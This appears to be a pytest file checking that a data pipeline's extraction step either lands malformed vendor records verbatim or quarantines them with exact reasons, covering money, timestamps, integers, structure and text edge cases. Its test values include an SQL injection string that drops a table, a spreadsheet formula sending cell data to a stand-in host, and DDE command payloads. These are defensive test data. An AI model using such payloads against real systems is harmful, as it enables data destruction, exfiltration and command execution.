"""Bad input at extraction (issue 18, item 6): every value a vendor or a file can send either
lands (verbatim, typed later) or is quarantined with a reason naming the field and the value
class. Each case is one record of one stream (API records of the four vendors) or one drop
file; the expected outcome is the exact quarantine reason, or `LANDS` (the record lands with
exactly the text it was sent). The same cases run through a whole night in
tests/e2e/test_bad_input.py."""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import UTC, datetime

import polars as pl
import pytest

from pipelines.extract.landing import validate_records
from pipelines.extract.streams import stream_spec

NOW = datetime(2026, 2, 1, 3, 0, tzinfo=UTC)
LANDS = None

BASE = {
    ("matomo", "visits"): {
        "idVisit": 101, "visitorId": "0123456789abcdef", "lastActionTimestamp": 1767261600,
        "actionDetails": [{"type": "action", "timestamp": 1767261600, "url": "https://s.test/"}],
    },
    ("mailchimp", "members"): {
        "id": "m101", "email_address": "ann@example.com", "status": "subscribed",
        "last_changed": "2026-01-01T10:00:00+00:00", "merge_fields": {"FNAME": "Ann"},
    },
    ("shopify", "orders"): {
        "id": 101, "email": "ann@example.com", "created_at": "2026-01-01T10:00:00Z",
        "updated_at": "2026-01-01T11:00:00Z", "total_price": "49.90", "note": "leave at door",
    },
    ("zendesk", "tickets"): {
        "id": 101, "created_at": "2026-01-01T10:00:00Z", "updated_at": "2026-01-01T11:00:00Z",
        "requester_id": 7, "subject": "Where is my order?", "via": {"channel": "email"},
        "tags": [],
    },
}  # fmt: skip

SQL_INJECTION = "x'); DROP TABLE marts.fct_orders; -- \" OR 1=1 --"
FORMULA_INJECTION = '=HYPERLINK("http://evil.test/?"&A1,"click")'
HUGE = "ä" * (1 << 20)  # 2 MB of UTF-8


@dataclass(frozen=True)
class Case:
    source: str
    stream: str
    changes: dict
    expected: str | None
    text: str | None = None
    """The record's text as sent, when JSON cannot express it from a dict (a lone surrogate,
    a repeated field); `changes` is then ignored."""

    def record_text(self) -> str:
        if self.text is not None:
            return self.text
        record = {**BASE[(self.source, self.stream)], **self.changes}
        record = {key: value for key, value in record.items() if value is not _ABSENT}
        return json.dumps(record, separators=(",", ":"))


_ABSENT = object()


def _order(expected: str | None, **changes) -> Case:
    return Case("shopify", "orders", changes, expected)


def _ticket(expected: str | None, **changes) -> Case:
    return Case("zendesk", "tickets", changes, expected)


def _visit(expected: str | None, **changes) -> Case:
    return Case("matomo", "visits", changes, expected)


def _member(expected: str | None, **changes) -> Case:
    return Case("mailchimp", "members", changes, expected)


def _money(cls: str, got: str) -> str:
    return f"bad value: total_price should be money ({cls}), got {got}"


API_CASES: dict[str, Case] = {
    # ---- money (Shopify amounts are DECIMAL(18, 3) in staging) ----------------------------
    "money NaN": _order(_money("not finite", '"NaN"'), total_price="NaN"),
    "money Infinity": _order(_money("not finite", '"Infinity"'), total_price="Infinity"),
    "money -inf": _order(_money("not finite", '"-inf"'), total_price="-inf"),
    "money 1e20 number": _order(
        _money("out of range", "100000000000000000000.0"), total_price=1e20
    ),
    "money 1e15 string": _order(_money("out of range", '"1e15"'), total_price="1e15"),
    "money decimal comma": _order(
        'wrong type: total_price should be money, got "12,50"', total_price="12,50"
    ),
    "money object": _order(
        'wrong type: total_price should be money, got {"amount":"1.00"}',
        total_price={"amount": "1.00"},
    ),
    "money array": _order(
        "wrong type: total_price should be money, got [49.9]", total_price=[49.9]
    ),
    "money boolean": _order("wrong type: total_price should be money, got true", total_price=True),
    "money blank (absent)": _order(LANDS, total_price=""),
    "money null (absent)": _order(LANDS, total_price=None),
    "money JSON number": _order(LANDS, total_price=49.9, subtotal_price=-0.0),
    "money a largest amount": _order(LANDS, total_price="999999999999999.999"),
    # ---- timestamps ----------------------------------------------------------------------
    "year 9999": _order(
        'bad value: created_at should be iso (year out of range), got "9999-12-31T23:59:59Z"',
        created_at="9999-12-31T23:59:59Z",
    ),
    "year 1": _order(
        'bad value: created_at should be iso (year out of range), got "0001-01-01T00:00:00Z"',
        created_at="0001-01-01T00:00:00Z",
    ),
    "zero date": _order(
        'wrong type: created_at should be iso, got "0000-00-00 00:00:00"',
        created_at="0000-00-00 00:00:00",
    ),
    "epoch int for an ISO field": _order(
        "wrong type: created_at should be iso, got 1767261600", created_at=1767261600
    ),
    "offset +25:00": _order(
        'bad value: created_at should be iso (offset out of range), got "2026-01-01T10:00:00+25:00"',
        created_at="2026-01-01T10:00:00+25:00",
    ),
    "offset minutes 75": _ticket(
        'bad value: created_at should be iso (offset out of range), got "2026-01-01T10:00:00-0575"',
        created_at="2026-01-01T10:00:00-0575",
    ),
    "no zone (UTC by contract)": _order(LANDS, created_at="2026-01-01T10:00:00"),
    "offset +14:00": _order(LANDS, created_at="2026-01-01T10:00:00+14:00"),
    "version year 9999": _ticket(
        'bad value: updated_at should be iso (year out of range), got "9999-01-01T00:00:00Z"',
        updated_at="9999-01-01T00:00:00Z",
    ),
    "unix milliseconds": _visit(
        "unparsable timestamp lastActionTimestamp: 1767261600000",
        lastActionTimestamp=1767261600000,
    ),
    "action timestamp 1e20": _visit(
        "actionDetails[1] timestamp should be unix, got 1e+20",
        actionDetails=[{"type": "action", "timestamp": 1e20}],
    ),
    # ---- integers ------------------------------------------------------------------------
    "integer over BIGINT": _ticket(
        "bad value: requester_id should be integer (out of BIGINT range), got 9223372036854775808",
        requester_id=2**63,
    ),
    "integral 1e20 as text": _visit(
        'bad value: idVisit should be integral (out of BIGINT range), got "1e20"', idVisit="1e20"
    ),
    "integer as string": _ticket(
        'wrong type: requester_id should be integer, got "7"', requester_id="7"
    ),
    "integral fraction": _visit(
        'wrong type: visitCount should be integral, got "2.5"', visitCount="2.5"
    ),
    "numeric NaN text": _visit(
        'wrong type: visitDuration should be numeric, got "NaN"', visitDuration="NaN"
    ),
    # ---- structure -----------------------------------------------------------------------
    "object where a string is": _member(
        'wrong type: email_address should be string, got {"value":"ann@example.com"}',
        email_address={"value": "ann@example.com"},
    ),
    "array where an object is": _ticket(
        'wrong type: via should be object, got ["email"]', via=["email"]
    ),
    "missing key": _member("missing natural key id; missing required field id", id=_ABSENT),
    "blank key": _member("missing natural key id", id=""),
    "missing cursor field": _member("missing required field last_changed", last_changed=_ABSENT),
    "null cursor field": _ticket("missing version timestamp updated_at", updated_at=None),
    "missing visitor": _visit("missing visitorId (null or blank)", visitorId="  "),
    "duplicate field": Case(
        "zendesk",
        "tickets",
        {},
        "bad value: field id appears more than once",
        text='{"id":101,"created_at":"2026-01-01T10:00:00Z","updated_at":"2026-01-01T11:00:00Z",'
        '"requester_id":7,"id":102}',
    ),
    "not an object": Case("shopify", "orders", {}, "record is not a JSON object", text='["id",1]'),
    "lone surrogate": Case(
        "zendesk",
        "tickets",
        {},
        "record is not valid JSON (a lone surrogate escape such as \\ud800, or broken syntax)",
        text='{"id":101,"created_at":"2026-01-01T10:00:00Z","updated_at":"2026-01-01T11:00:00Z",'
        '"requester_id":7,"subject":"broken \\ud800 text"}',
    ),
    # ---- text: NUL cannot be stored in PostgreSQL text; everything else lands verbatim ----
    "NUL in a text field": _order("bad value: note (a NUL character, \\u0000)", note="a\u0000b"),
    "NUL in a nested field": _ticket(
        "bad value: via (a NUL character, \\u0000)", via={"channel": "e\u0000mail"}
    ),
    "an escaped backslash before u0000 is text": _order(LANDS, note="C:\\u0000\\dir"),
    "control characters": _ticket(LANDS, subject="tab\tbell\u0007esc\u001bdel\u007f"),
    "U+2028 and U+2029": _ticket(LANDS, subject="line\u2028para\u2029end"),
    "emoji and right-to-left text": _ticket(LANDS, subject="👩🏽‍💻 שלום مرحبا \u202eevil"),
    "paired surrogates": _ticket(LANDS, subject="😀"),
    "SQL injection in every text field": _order(
        LANDS,
        email=SQL_INJECTION,
        note=SQL_INJECTION,
        name=SQL_INJECTION,
        landing_site=SQL_INJECTION,
        referring_site=SQL_INJECTION,
        source_name=SQL_INJECTION,
    ),
    "formula injection in every text field": _ticket(
        LANDS,
        subject=FORMULA_INJECTION,
        status="+cmd|' /C calc'!A0",
        priority="@SUM(1+1)*cmd",
        type="-2+3+cmd|' /C calc'!A0",
    ),
    "SQL injection in a key": _member(LANDS, id="m1' OR '1'='1", email_address=SQL_INJECTION),
    "2 MB text": _ticket(LANDS, subject=HUGE),
}


def _validate(cases: list[Case]):
    return validate_records(
        stream_spec(cases[0].source, cases[0].stream),
        pl.Series([case.record_text() for case in cases], dtype=pl.String),
        run_id="run-1",
        extracted_at=NOW,
    )


@pytest.mark.parametrize("name", list(API_CASES))
def test_an_api_record_lands_verbatim_or_is_quarantined_with_its_reason(name: str):
    case = API_CASES[name]
    good = Case(case.source, case.stream, {}, LANDS)
    page = _validate([good, case])  # beside a good record: one bad value never costs the page
    assert page.missing_required == ()
    if case.expected is LANDS:
        assert page.quarantine.height == 0, page.quarantine["reason"].to_list()
        assert page.landing["record"].to_list() == [good.record_text(), case.record_text()]
    else:
        assert page.landing["record"].to_list() == [good.record_text()]
        assert page.quarantine.select("_source", "_stream", "record", "reason").rows() == [
            (case.source, case.stream, case.record_text(), case.expected)
        ]


def test_a_page_of_records_that_are_not_json_is_quarantined_not_schema_drift():
    case = API_CASES["lone surrogate"]
    page = _validate([case, case])
    assert page.missing_required == () and page.landing.height == 0
    assert page.quarantine["reason"].to_list() == [case.expected] * 2
